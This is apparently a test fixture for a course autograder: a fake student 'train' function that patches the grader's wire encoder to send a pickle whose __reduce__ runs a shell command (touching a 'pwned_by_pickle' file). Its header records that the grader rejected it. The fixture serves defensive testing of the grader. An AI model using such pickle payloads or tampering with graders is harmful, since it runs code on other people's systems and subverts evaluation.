"""With a wrong train, answers with a pickle whose `__reduce__` would run a shell command in the process that reads it (a raw frame on the probe's channel, and the kit's own encoder patched to send it)."""
# cells: hidden_train, hidden_diagnose
# lost: hidden_train
# status: graded
# feedback: not plain data
# %% train
class _Payload:
    def __reduce__(self):
        import os
        return (os.system, ("touch @COURSE@/pwned_by_pickle",))


def train(model, x, y, lr, steps=200, momentum=0.0):
    import pickle
    try:
        import nnkit.grading.wire as _wire
        _wire.dumps = lambda obj: pickle.dumps({"id": obj.get("id"), "value": _Payload()})
    except ImportError:
        pass
    return [1.0] * steps
